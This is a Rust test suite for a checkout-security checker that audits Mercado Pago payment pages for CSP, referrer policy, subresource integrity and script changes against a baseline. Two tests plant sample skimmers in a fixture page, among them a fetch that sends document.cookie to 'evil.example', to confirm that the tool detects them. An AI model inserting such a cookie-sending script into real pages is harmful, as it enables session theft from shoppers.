//! `checkout-security` and `mp-golive baseline` against payment pages served by real TLS
//! servers on loopback, through the binary as a user runs it: each finding appears when it
//! should and stays quiet when it should not, and a baseline written is read back.

use std::path::Path;
use std::sync::atomic::Ordering;
use std::sync::{Arc, Mutex};

use crate::common::{Output, mp_golive, with_config};
use crate::support::tls_server::{self, HOST, Leaf, Pki, Reply, ServerOptions};

/// A Bricks checkout as Mercado Pago documents it: the SDK tag, a container, an inline
/// script with the policy's nonce.
const BRICKS_PAGE: &str = r#"<!doctype html><html><head><title>Checkout</title>
<link rel="stylesheet" href="/static/shop.css">
<script src="https://sdk.mercadopago.com/js/v2"></script></head>
<body><div id="cardPaymentBrick_container"></div>
<script nonce="r4nd0mN0nce">const mp = new MercadoPago('APP_USR-0a1b2c3d-1111-2222-3333-444455556666');
mp.bricks().create('cardPayment', 'cardPaymentBrick_container', {});</script>
</body></html>"#;

/// A policy that allows what MercadoPago.js and Bricks need and nothing else.
const STRICT_CSP: &str = "default-src 'self'; script-src 'self' 'nonce-r4nd0mN0nce' https://sdk.mercadopago.com https://http2.mlstatic.com; connect-src 'self' https://api.mercadopago.com https://api.mercadolibre.com https://http2.mlstatic.com https://www.mercadolibre.com https://secure-fields.mercadopago.com; frame-src https://secure-fields.mercadopago.com; img-src 'self' https://www.mercadolibre.com https://www.mercadolivre.com; frame-ancestors 'self'";

/// The Bricks page with [`STRICT_CSP`] and a strict referrer policy.
fn strict(body: &str) -> Reply {
    Reply::page(body)
        .header("content-security-policy", STRICT_CSP)
        .header("referrer-policy", "strict-origin-when-cross-origin")
}

/// A payment page on loopback whose reply a test can change between runs.
struct Site {
    port: u16,
    pki: Pki,
    live: Arc<Mutex<Reply>>,
    requests: Arc<std::sync::atomic::AtomicUsize>,
}

impl Site {
    async fn start(reply: Reply) -> Site {
        let pki = Pki::new();
        let live = Arc::new(Mutex::new(reply));
        let opts = ServerOptions {
            live: Some(live.clone()),
            ..ServerOptions::default()
        };
        let requests = opts.requests.clone();
        let port = tls_server::start(pki.leaf(&Leaf::default(), true), opts).await;
        Site {
            port,
            pki,
            live,
            requests,
        }
    }

    fn url(&self) -> String {
        format!("https://{HOST}:{}/checkout", self.port)
    }

    fn serve(&self, reply: Reply) {
        *self.live.lock().unwrap() = reply;
    }

    /// `mp-golive <command> …` with this page's URL, CA and `--resolve`, in `dir`.
    async fn run(&self, dir: &Path, command: &[&str], extra: &[&str]) -> Output {
        let resolve = format!("{HOST}:{}:127.0.0.1", self.port);
        let url = self.url();
        mp_golive(command)
            .args([
                "--checkout-url",
                &url,
                "--ca-file",
                &self.pki.ca_path(),
                "--resolve",
                &resolve,
                "--timeout",
                "5",
            ])
            .args(extra)
            .cwd(dir)
            .run_async()
            .await
    }

    async fn check(&self, dir: &Path, extra: &[&str]) -> Output {
        self.run(
            dir,
            &["check", "--only", "checkout-security", "--format", "json"],
            extra,
        )
        .await
    }

    async fn baseline(&self, dir: &Path, extra: &[&str]) -> Output {
        self.run(dir, &["baseline"], extra).await
    }
}

fn codes(out: &Output) -> Vec<String> {
    out.codes("checkout-security")
}

/// The codes that say something is wrong (info aside).
fn warnings(out: &Output) -> Vec<String> {
    let c = out.check("checkout-security");
    c["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["severity"] != "info")
        .map(|f| f["code"].as_str().unwrap().to_owned())
        .collect()
}

fn message(out: &Output, code: &str) -> String {
    out.finding("checkout-security", code)["message"]
        .as_str()
        .unwrap()
        .to_owned()
}

async fn page(reply: Reply) -> Output {
    let site = Site::start(reply).await;
    let dir = tempfile::tempdir().unwrap();
    site.check(dir.path(), &[]).await
}

#[tokio::test]
async fn a_strict_bricks_page_passes_and_says_why_the_sdk_has_no_integrity() {
    let site = Site::start(strict(BRICKS_PAGE)).await;
    let dir = tempfile::tempdir().unwrap();
    let out = site
        .run(
            dir.path(),
            &[
                "check",
                "--only",
                "checkout-page,checkout-security",
                "--format",
                "json",
            ],
            &[],
        )
        .await;
    out.expect_code(0);
    let c = out.check("checkout-security");
    assert_eq!(c["status"], "pass", "{c}");
    assert_eq!(
        codes(&out),
        [
            "checkout-security/protections",
            "checkout-security/sdk-sri-exempt",
            "checkout-security/integration",
            "checkout-security/no-baseline"
        ]
    );
    assert_eq!(
        message(&out, "checkout-security/protections"),
        c["summary"].as_str().unwrap()
    );
    assert!(message(&out, "checkout-security/sdk-sri-exempt").contains("unversioned"));
    let scope = message(&out, "checkout-security/integration");
    assert!(
        scope.contains("Bricks") && scope.contains("SAQ A"),
        "{scope}"
    );
    assert!(scope.contains("not a certification"), "{scope}");
    assert_eq!(
        c["summary"],
        "2 scripts; in place: Content-Security-Policy, frame-ancestors 'self', Referrer-Policy: strict-origin-when-cross-origin",
        "{c}"
    );
    // Both checks judged the one answer: the page was fetched once.
    assert_eq!(site.requests.load(Ordering::SeqCst), 1);
}

#[tokio::test]
async fn a_page_without_headers_warns_for_each_missing_defence() {
    let out = page(Reply::page(BRICKS_PAGE)).await;
    // Advisory by default: warnings do not fail the run.
    out.expect_code(0);
    assert_eq!(out.check("checkout-security")["status"], "warn");
    assert_eq!(
        warnings(&out),
        [
            "checkout-security/no-csp",
            "checkout-security/clickjacking",
            "checkout-security/no-referrer-policy"
        ]
    );
}

#[tokio::test]
async fn report_only_and_meta_policies_are_told_apart() {
    let out = page(
        Reply::page(BRICKS_PAGE)
            .header("content-security-policy-report-only", STRICT_CSP)
            .header("x-frame-options", "DENY")
            .header("referrer-policy", "no-referrer"),
    )
    .await;
    assert_eq!(warnings(&out), ["checkout-security/csp-report-only"]);

    let meta = BRICKS_PAGE.replace(
        "<title>",
        &format!(r#"<meta http-equiv="Content-Security-Policy" content="{STRICT_CSP}"><title>"#),
    );
    let out = page(Reply::page(&meta).header("referrer-policy", "same-origin")).await;
    assert!(codes(&out).contains(&"checkout-security/csp-meta".to_owned()));
    // A <meta> policy's frame-ancestors is ignored by browsers.
    assert_eq!(warnings(&out), ["checkout-security/clickjacking"]);
}

#[tokio::test]
async fn weak_script_policies_are_named_with_their_directive() {
    for (csp, code, words) in [
        (
            "script-src 'self' 'unsafe-inline' https://sdk.mercadopago.com https://http2.mlstatic.com; frame-ancestors 'none'",
            "checkout-security/unsafe-inline",
            "`script-src` allows 'unsafe-inline'",
        ),
        (
            "script-src 'self' 'nonce-r4nd0mN0nce' https:; frame-ancestors 'none'",
            "checkout-security/script-wildcard",
            "`script-src` allows https:",
        ),
        (
            "img-src 'self'; frame-ancestors 'none'",
            "checkout-security/script-unrestricted",
            "neither `script-src` nor `default-src`",
        ),
    ] {
        let out = page(
            Reply::page("<p>no SDK here</p>")
                .header("content-security-policy", csp)
                .header("referrer-policy", "no-referrer"),
        )
        .await;
        assert_eq!(warnings(&out), [code], "{csp}");
        assert!(message(&out, code).contains(words), "{}", out.stdout);
    }
}

#[tokio::test]
async fn a_host_the_sdk_needs_is_named_with_its_directive() {
    // connect-src is not set: default-src applies, and lets only the page's origin in.
    let csp = "default-src 'self'; script-src 'self' 'nonce-r4nd0mN0nce' https://sdk.mercadopago.com https://http2.mlstatic.com; frame-src https://secure-fields.mercadopago.com; img-src *; frame-ancestors 'self'";
    let out = page(strict(BRICKS_PAGE).header("content-security-policy", csp)).await;
    assert_eq!(out.check("checkout-security")["status"], "warn");
    assert_eq!(warnings(&out), ["checkout-security/sdk-host-blocked"]);
    let m = message(&out, "checkout-security/sdk-host-blocked");
    assert!(
        m.contains("`connect-src` is not set, so `default-src` applies"),
        "{m}"
    );
    for host in [
        "api.mercadopago.com",
        "api.mercadolibre.com",
        "secure-fields.mercadopago.com",
    ] {
        assert!(m.contains(host), "{m}");
    }
}

#[tokio::test]
async fn strict_dynamic_needs_the_nonce_on_the_sdk_tag() {
    let csp = "script-src 'nonce-r4nd0mN0nce' 'strict-dynamic' https: 'unsafe-inline'; object-src 'none'; frame-ancestors 'self'";
    let out = page(strict(BRICKS_PAGE).header("content-security-policy", csp)).await;
    assert_eq!(warnings(&out), ["checkout-security/sdk-nonce-missing"]);
    // The same tag with the policy's nonce is admitted, and what it loads through it.
    let tagged = BRICKS_PAGE.replace(
        r#"<script src="https://sdk.mercadopago.com/js/v2">"#,
        r#"<script src="https://sdk.mercadopago.com/js/v2" nonce="r4nd0mN0nce">"#,
    );
    let out = page(strict(&tagged).header("content-security-policy", csp)).await;
    assert!(warnings(&out).is_empty(), "{}", out.stdout);
}

/// The SDK's tag is judged as the browser loads it: a nonce (or, under 'strict-dynamic', a
/// hash the policy lists in the tag's `integrity`) admits it whatever its host, while what
/// the SDK then loads, without a nonce, still needs its host listed.
#[tokio::test]
async fn the_sdk_tag_is_admitted_by_what_it_carries_and_what_it_loads_by_its_host() {
    let nonce_only = STRICT_CSP.replace(
        "script-src 'self' 'nonce-r4nd0mN0nce' https://sdk.mercadopago.com https://http2.mlstatic.com",
        "script-src 'nonce-r4nd0mN0nce'",
    );
    let tagged = BRICKS_PAGE.replace(
        r#"<script src="https://sdk.mercadopago.com/js/v2">"#,
        r#"<script src="https://sdk.mercadopago.com/js/v2" nonce="r4nd0mN0nce">"#,
    );
    let out = page(strict(&tagged).header("content-security-policy", &nonce_only)).await;
    assert_eq!(warnings(&out), ["checkout-security/sdk-host-blocked"]);
    let m = message(&out, "checkout-security/sdk-host-blocked");
    assert!(
        m.contains("`script-src` does not allow http2.mlstatic.com,")
            && !m.contains("sdk.mercadopago.com"),
        "{m}"
    );
    // Without the nonce on the tag, the SDK's own host is missing too.
    let out = page(strict(BRICKS_PAGE).header("content-security-policy", &nonce_only)).await;
    let m = message(&out, "checkout-security/sdk-host-blocked");
    assert!(m.contains("sdk.mercadopago.com, http2.mlstatic.com"), "{m}");

    // Under 'strict-dynamic' a hash the policy lists in the tag's integrity admits it.
    let csp = "script-src 'nonce-r4nd0mN0nce' 'sha384-pinnedSdkHash' 'strict-dynamic'; object-src 'none'; frame-ancestors 'self'";
    let pinned = BRICKS_PAGE.replace(
        r#"<script src="https://sdk.mercadopago.com/js/v2">"#,
        r#"<script src="https://sdk.mercadopago.com/js/v2" integrity="sha384-pinnedSdkHash" crossorigin="anonymous">"#,
    );
    let out = page(strict(&pinned).header("content-security-policy", csp)).await;
    assert!(
        !codes(&out).contains(&"checkout-security/sdk-nonce-missing".to_owned()),
        "{}",
        out.stdout
    );
    let other = pinned.replace("sha384-pinnedSdkHash", "sha384-anotherHash");
    let out = page(strict(&other).header("content-security-policy", csp)).await;
    assert!(codes(&out).contains(&"checkout-security/sdk-nonce-missing".to_owned()));
}

/// A page cached with an old nonce: the header's nonce is new, the script's is not, so the
/// browser blocks the script that starts Bricks. A script whose hash is listed runs.
#[tokio::test]
async fn an_inline_script_the_policy_blocks_is_named() {
    let csp = STRICT_CSP.replace("r4nd0mN0nce", "fr3shN0nce");
    let out = page(strict(BRICKS_PAGE).header("content-security-policy", &csp)).await;
    assert_eq!(warnings(&out), ["checkout-security/inline-blocked"]);
    let m = message(&out, "checkout-security/inline-blocked");
    assert!(
        m.contains("`script-src` blocks the inline script sha256-") && m.contains("const mp"),
        "{m}"
    );
    // The same script without its nonce, allowed by its hash as `baseline` records it.
    let site = Site::start(strict(&BRICKS_PAGE.replace(r#" nonce="r4nd0mN0nce""#, ""))).await;
    let dir = tempfile::tempdir().unwrap();
    site.baseline(dir.path(), &[]).await.expect_code(0);
    let text = std::fs::read_to_string(dir.path().join("mp-golive.scripts.json")).unwrap();
    let json: serde_json::Value = serde_json::from_str(&text).unwrap();
    let hash = json["scripts"]
        .as_array()
        .unwrap()
        .iter()
        .find_map(|s| s["inline"].as_str())
        .unwrap()
        .to_owned();
    let hashed = STRICT_CSP.replace("'nonce-r4nd0mN0nce'", &format!("'{hash}'"));
    site.serve(
        strict(&BRICKS_PAGE.replace(r#" nonce="r4nd0mN0nce""#, ""))
            .header("content-security-policy", &hashed),
    );
    let out = site.check(dir.path(), &[]).await;
    assert_eq!(
        warnings(&out),
        ["checkout-security/header-changed"],
        "{}",
        out.stdout
    );
}

#[tokio::test]
async fn referrer_policies_that_leak_return_urls_are_findings() {
    for policy in ["unsafe-url", "no-referrer-when-downgrade"] {
        let out = page(strict(BRICKS_PAGE).header("referrer-policy", policy)).await;
        assert_eq!(
            warnings(&out),
            ["checkout-security/referrer-leaks"],
            "{policy}"
        );
        assert!(message(&out, "checkout-security/referrer-leaks").contains(policy));
    }
}

#[tokio::test]
async fn third_party_code_without_integrity_is_listed_and_a_pinned_sdk_warns() {
    let body = BRICKS_PAGE
        .replace(
            r#"<script src="https://sdk.mercadopago.com/js/v2">"#,
            r#"<script src="https://sdk.mercadopago.com/js/v2" integrity="sha384-pinned">"#,
        )
        .replace(
            "</head>",
            r#"<script src="https://cdn.example/analytics.js"></script>
<script src="https://cdn.example/lib-1.2.3.js" integrity="sha384-abc" crossorigin="anonymous"></script>
<link rel="stylesheet" href="https://fonts.example/font.css"></head>"#,
        );
    let csp = STRICT_CSP.replace("script-src 'self'", "script-src 'self' https://cdn.example");
    let out = page(strict(&body).header("content-security-policy", &csp)).await;
    assert_eq!(
        warnings(&out),
        [
            "checkout-security/sri-missing",
            "checkout-security/sdk-sri-pinned",
            "checkout-security/sri-missing"
        ]
    );
    let c = out.check("checkout-security");
    let text = c.to_string();
    assert!(text.contains("https://cdn.example/analytics.js"), "{text}");
    assert!(text.contains("https://fonts.example/font.css"), "{text}");
    assert!(!text.contains("lib-1.2.3.js"), "{text}");
}

/// A script hidden in an inline SVG icon runs like any other: it is named without
/// integrity, and a baseline records it, so adding one later is a change.
#[tokio::test]
async fn a_script_hidden_in_inline_svg_is_judged_and_inventoried() {
    let icon = r#"<svg width="1" height="1"><script href="https://cdn.example/skim.js"/></svg>"#;
    let site = Site::start(strict(BRICKS_PAGE)).await;
    let dir = tempfile::tempdir().unwrap();
    site.baseline(dir.path(), &[]).await.expect_code(0);
    site.serve(strict(
        &BRICKS_PAGE.replace("<body>", &format!("<body>{icon}")),
    ));
    let out = site.check(dir.path(), &[]).await;
    let text = out.check("checkout-security").to_string();
    assert!(
        codes(&out).contains(&"checkout-security/sri-missing".to_owned())
            && codes(&out).contains(&"checkout-security/script-added".to_owned()),
        "{text}"
    );
    assert!(text.contains("https://cdn.example/skim.js"), "{text}");
}

/// Past ten findings of one kind, one more says how many were not listed; scripts and
/// stylesheets are counted apart.
#[tokio::test]
async fn an_untidy_page_is_summed_up_not_cut_short() {
    let scripts: String = (0..13)
        .map(|i| format!(r#"<script src="https://cdn.example/s{i}.js"></script>"#))
        .collect();
    let body = BRICKS_PAGE.replace(
        "</head>",
        &format!(r#"{scripts}<link rel="stylesheet" href="https://fonts.example/f.css"></head>"#),
    );
    let csp = STRICT_CSP.replace("script-src 'self'", "script-src 'self' https://cdn.example");
    let out = page(strict(&body).header("content-security-policy", &csp)).await;
    let sri: Vec<String> = out.check("checkout-security")["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["code"] == "checkout-security/sri-missing")
        .map(|f| f["message"].as_str().unwrap().to_owned())
        .collect();
    // Ten scripts, the count of the other three, then the stylesheet.
    assert_eq!(sri.len(), 12, "{sri:#?}");
    // (The inventory is sorted, so which ten is by URL order.)
    assert!(
        sri[..10]
            .iter()
            .all(|m| m.contains("https://cdn.example/s")),
        "{sri:#?}"
    );
    assert!(sri[10].contains("3 more like this"), "{}", sri[10]);
    assert!(
        sri[11].contains("https://fonts.example/f.css"),
        "{}",
        sri[11]
    );
}

#[tokio::test]
async fn a_page_that_cannot_be_read_is_an_error_not_a_pass() {
    let mut reply = Reply::page("<h1>Not found</h1>");
    reply.status = 404;
    let out = page(reply).await;
    let c = out.check("checkout-security");
    assert_eq!(c["status"], "error", "{c}");
    assert_eq!(codes(&out), ["checkout-security/page-unavailable"]);
    assert!(message(&out, "checkout-security/page-unavailable").contains("HTTP 404"));

    let huge = format!("{BRICKS_PAGE}{}", " ".repeat(2 * 1024 * 1024));
    let out = page(strict(&huge)).await;
    assert_eq!(out.check("checkout-security")["status"], "error");
    assert!(codes(&out).contains(&"checkout-security/truncated".to_owned()));
}

#[test]
fn without_a_checkout_url_it_is_skipped_unless_required() {
    let out = mp_golive(["check", "--only", "checkout-security", "--format", "json"]).run();
    out.expect_code(0);
    assert_eq!(out.check("checkout-security")["status"], "skip");
    let dir = with_config("[checks.checkout-security]\nrequired = true\n");
    let out = mp_golive(["check", "--only", "checkout-security", "--format", "json"])
        .cwd(dir.path())
        .run();
    out.expect_code(1);
    assert_eq!(codes(&out), ["checkout-security/not-configured"]);
}

#[tokio::test]
async fn a_page_that_never_comes_meets_the_deadline() {
    use crate::support::raw_tcp::{self, Behaviour};
    let hang = raw_tcp::start(Behaviour::Hang).await;
    let port = hang.url.rsplit(':').next().unwrap().to_owned();
    let dir = with_config("[checks.checkout-security]\nrequired = true\n");
    let out = mp_golive([
        "check",
        "--only",
        "checkout-security",
        "--format",
        "json",
        "--checkout-url",
        &format!("https://{HOST}:{port}/checkout"),
        "--resolve",
        &format!("{HOST}:{port}:127.0.0.1"),
        "--timeout",
        "60",
        "--deadline",
        "1",
    ])
    .cwd(dir.path())
    .run_async()
    .await;
    out.expect_code(3);
    crate::codes::assert_cut_short(&out, "checkout-security/deadline");
}

#[tokio::test]
async fn a_baseline_written_then_read_back_unchanged_gives_no_change() {
    let site = Site::start(strict(BRICKS_PAGE)).await;
    let dir = tempfile::tempdir().unwrap();
    let wrote = site.baseline(dir.path(), &[]).await;
    wrote.expect_code(0);
    assert!(
        wrote.stderr.contains("mp-golive.scripts.json"),
        "{}",
        wrote.stderr
    );
    let text = std::fs::read_to_string(dir.path().join("mp-golive.scripts.json")).unwrap();
    // The nonce changes on every request: only its presence is recorded.
    assert!(!text.contains("r4nd0mN0nce"), "{text}");
    let json: serde_json::Value = serde_json::from_str(&text).unwrap();
    assert_eq!(json["version"], 1);
    let scripts = json["scripts"].as_array().unwrap();
    assert_eq!(scripts.len(), 2, "{text}");
    assert!(
        scripts
            .iter()
            .any(|s| s["src"] == "https://sdk.mercadopago.com/js/v2")
    );
    let inline = scripts.iter().find(|s| s.get("inline").is_some()).unwrap();
    assert!(inline["inline"].as_str().unwrap().starts_with("sha256-"));
    assert_eq!(inline["nonce"], true);
    assert!(
        json["headers"]["content-security-policy"]
            .as_str()
            .unwrap()
            .contains("'nonce-*'")
    );
    // Written twice, the file is the same byte for byte: a diff shows only real changes.
    site.baseline(dir.path(), &[]).await.expect_code(0);
    assert_eq!(
        std::fs::read_to_string(dir.path().join("mp-golive.scripts.json")).unwrap(),
        text
    );

    // A new nonce on the next request changes nothing either.
    site.serve(
        strict(&BRICKS_PAGE.replace("r4nd0mN0nce", "an0therN0nce")).header(
            "content-security-policy",
            &STRICT_CSP.replace("r4nd0mN0nce", "an0therN0nce"),
        ),
    );
    let out = site.check(dir.path(), &[]).await;
    out.expect_code(0);
    assert_eq!(
        out.check("checkout-security")["status"],
        "pass",
        "{}",
        out.stdout
    );
    assert_eq!(
        codes(&out),
        [
            "checkout-security/protections",
            "checkout-security/sdk-sri-exempt",
            "checkout-security/integration"
        ]
    );
}

/// A page that shows the configured access token (here in a script's URL) does not carry it
/// into the baseline, a file meant to be committed.
#[tokio::test]
async fn the_access_token_on_the_page_never_reaches_the_baseline() {
    use crate::support::fake_api::TOKEN;
    let leaky = BRICKS_PAGE.replace(
        "</head>",
        &format!(r#"<script src="https://cdn.example/track.js?t={TOKEN}"></script></head>"#),
    );
    let site = Site::start(strict(&leaky)).await;
    let dir = tempfile::tempdir().unwrap();
    let resolve = format!("{HOST}:{}:127.0.0.1", site.port);
    let url = site.url();
    let ca = site.pki.ca_path();
    let wrote = mp_golive(["baseline"])
        .args([
            "--checkout-url",
            &url,
            "--ca-file",
            &ca,
            "--resolve",
            &resolve,
        ])
        .env("MP_ACCESS_TOKEN", TOKEN)
        .cwd(dir.path())
        .run_async()
        .await;
    wrote.expect_code(0);
    let text = std::fs::read_to_string(dir.path().join("mp-golive.scripts.json")).unwrap();
    assert!(text.contains("https://cdn.example/track.js?t="), "{text}");
    assert!(!text.contains(&TOKEN[TOKEN.len() - 12..]), "{text}");
    assert!(
        !wrote.stderr.contains(&TOKEN[TOKEN.len() - 12..]),
        "{}",
        wrote.stderr
    );
}

#[tokio::test]
async fn an_inline_script_that_changed_and_a_script_added_are_reported() {
    let site = Site::start(strict(BRICKS_PAGE)).await;
    let dir = tempfile::tempdir().unwrap();
    site.baseline(dir.path(), &[]).await.expect_code(0);

    // A skimmer appended to the inline script, and a new external tag.
    let skimmed = BRICKS_PAGE
        .replace(
            "{});</script>",
            "{}); fetch('https://evil.example/c?d='+document.cookie);</script>",
        )
        .replace(
            "</body>",
            r#"<script src="https://evil.example/skim.js" integrity="sha384-x"></script></body>"#,
        );
    let csp = STRICT_CSP.replace(
        "script-src 'self'",
        "script-src 'self' https://evil.example",
    );
    site.serve(strict(&skimmed).header("content-security-policy", &csp));
    let out = site.check(dir.path(), &[]).await;
    out.expect_code(0);
    assert_eq!(out.check("checkout-security")["status"], "warn");
    assert_eq!(
        warnings(&out),
        [
            "checkout-security/script-added",
            "checkout-security/script-added",
            "checkout-security/script-removed",
            "checkout-security/header-changed"
        ]
    );
    let c = out.check("checkout-security").to_string();
    assert!(c.contains("https://evil.example/skim.js"), "{c}");
    assert!(c.contains("an inline script sha256-"), "{c}");
    assert!(message(&out, "checkout-security/header-changed").contains("content-security-policy"));
}

#[tokio::test]
async fn changed_attributes_are_a_changed_script() {
    let site = Site::start(strict(BRICKS_PAGE)).await;
    let dir = tempfile::tempdir().unwrap();
    site.baseline(dir.path(), &["--out", "ci.json"])
        .await
        .expect_code(0);
    site.serve(strict(&BRICKS_PAGE.replace(
        r#"<script src="https://sdk.mercadopago.com/js/v2">"#,
        r#"<script src="https://sdk.mercadopago.com/js/v2" crossorigin="anonymous">"#,
    )));
    let out = site.check(dir.path(), &["--baseline", "ci.json"]).await;
    assert_eq!(warnings(&out), ["checkout-security/script-changed"]);
    let m = message(&out, "checkout-security/script-changed");
    assert!(m.contains("crossorigin: (none) → anonymous"), "{m}");
}

#[tokio::test]
async fn a_baseline_of_another_page_is_said_so() {
    let first = Site::start(strict(BRICKS_PAGE)).await;
    let dir = tempfile::tempdir().unwrap();
    first.baseline(dir.path(), &[]).await.expect_code(0);
    let second = Site::start(strict(BRICKS_PAGE)).await;
    let out = second.check(dir.path(), &[]).await;
    assert!(
        codes(&out).contains(&"checkout-security/baseline-other-page".to_owned()),
        "{}",
        out.stdout
    );
    assert!(warnings(&out).is_empty(), "{}", out.stdout);
}

#[tokio::test]
async fn a_given_baseline_must_exist_and_parse() {
    let site = Site::start(strict(BRICKS_PAGE)).await;
    let dir = tempfile::tempdir().unwrap();
    let out = site
        .check(dir.path(), &["--baseline", "missing.json"])
        .await;
    out.expect_code(2);
    assert!(out.stderr.contains("missing.json") && out.stderr.contains("does not exist"));
    assert!(out.stdout.is_empty(), "nothing was checked: {}", out.stdout);

    std::fs::write(dir.path().join("mp-golive.scripts.json"), "{\"version\": 1").unwrap();
    let out = site.check(dir.path(), &[]).await;
    out.expect_code(2);
    assert!(
        out.stderr.contains("mp-golive.scripts.json") && out.stderr.contains("cannot be used"),
        "{}",
        out.stderr
    );
    // Turned off, the check reads no baseline, so a broken one does not stop the run.
    std::fs::write(
        dir.path().join("mp-golive.toml"),
        "[checks.checkout-security]\nenabled = false\n",
    )
    .unwrap();
    let off = site.check(dir.path(), &[]).await;
    off.expect_code(0);
    assert_eq!(off.check("checkout-security")["status"], "skip");
    std::fs::remove_file(dir.path().join("mp-golive.toml")).unwrap();
    // `baseline` writes over the broken file.
    site.baseline(dir.path(), &[]).await.expect_code(0);
    site.check(dir.path(), &[]).await.expect_code(0);
    // `--out -` prints the inventory and writes nothing.
    let printed = site.baseline(dir.path(), &["--out", "-"]).await;
    printed.expect_code(0);
    assert_eq!(
        printed.stdout,
        std::fs::read_to_string(dir.path().join("mp-golive.scripts.json")).unwrap()
    );
}

#[tokio::test]
async fn the_config_key_names_the_baseline_for_both_commands() {
    let site = Site::start(strict(BRICKS_PAGE)).await;
    let dir = with_config("[checks.checkout-security]\nbaseline = \"payment-page.json\"\n");
    site.baseline(dir.path(), &[]).await.expect_code(0);
    assert!(dir.path().join("payment-page.json").exists());
    assert!(!dir.path().join("mp-golive.scripts.json").exists());
    site.serve(strict(&BRICKS_PAGE.replace(
        "</body>",
        r#"<script nonce="r4nd0mN0nce">extra()</script></body>"#,
    )));
    let out = site.check(dir.path(), &[]).await;
    assert_eq!(warnings(&out), ["checkout-security/script-added"]);
}

#[tokio::test]
async fn a_page_that_cannot_be_read_writes_no_baseline() {
    let mut reply = Reply::page("<h1>Not found</h1>");
    reply.status = 404;
    let site = Site::start(reply).await;
    let dir = tempfile::tempdir().unwrap();
    let out = site.baseline(dir.path(), &[]).await;
    out.expect_code(1);
    assert!(out.stderr.contains("HTTP 404"), "{}", out.stderr);
    assert!(!dir.path().join("mp-golive.scripts.json").exists());
    let out = mp_golive(["baseline"]).cwd(dir.path()).run();
    out.expect_code(2);
    assert!(out.stderr.contains("--checkout-url"), "{}", out.stderr);
}
